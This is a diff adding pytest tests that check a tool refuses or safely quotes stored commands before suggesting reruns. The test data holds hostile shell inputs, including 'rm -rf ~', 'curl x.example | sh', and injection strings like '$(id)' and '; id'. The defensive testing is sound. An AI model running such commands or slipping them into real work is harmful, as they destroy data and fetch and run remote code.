@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 import shlex
 from dataclasses import replace
 
@@ -199,3 +200,30 @@ def test_answers_of_the_store_say_nothing_of_the_time() -> None:
 )
 def test_items_are_repeated_where_k_can_name_them(items: list[str], expected: str | None) -> None:
     assert repeat_command(started([outcome()]), items) == expected
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        *("pytest 'a", "pytest \\", "", " ", "rm -rf ~; pytest", "curl x.example | sh #", "pytest\nrm -rf ~"),
+        *("pytest \x1b[2J", "pytest \u202e", "pytest \ud800", "pytest " + "x" * 20_000, "/tmp/pytest", "env pytest"),
+    ],
+)
+def test_a_run_of_others_whose_command_is_none_has_no_steps(command: str) -> None:
+    run = started(fake_outcomes({"arithmetic": 200}))
+    run.summary["invocation"]["command"] = command  # type: ignore[index]
+    assert next_steps(run) == []
+    assert repeat_command(run, ["arithmetic-1"]) is None
+
+
+@pytest.mark.parametrize("evil", ["$(id)", "`id`", "; id", "| id", "&& id", "> file", "{a,b}", "~", "*", "!x"])
+def test_a_command_of_others_runs_nothing_but_pytest(evil: str) -> None:
+    """Each word is quoted, so that a shell gives it to pytest as it is."""
+    run = started(fake_outcomes({"arithmetic": 200}))
+    run.summary["invocation"]["command"] = f"pytest probes {evil}"  # type: ignore[index]
+    for command in [*commands(run), str(repeat_command(run, ["arithmetic-1"]))]:
+        assert shlex.split(command)[: 2 + len(evil.split())] == ["pytest", "probes", *evil.split()]
+        lexer = shlex.shlex(command, posix=True, punctuation_chars=True)
+        lexer.wordchars += "".join(set(command) - set("();<>|&'\" "))
+        assert list(lexer) == shlex.split(command)  # there is no operator
+        assert not any(mark in re.sub("'[^']*'", "", command) for mark in ("$", "`", "*", "{", "~", "!", ";", "|", "&"))
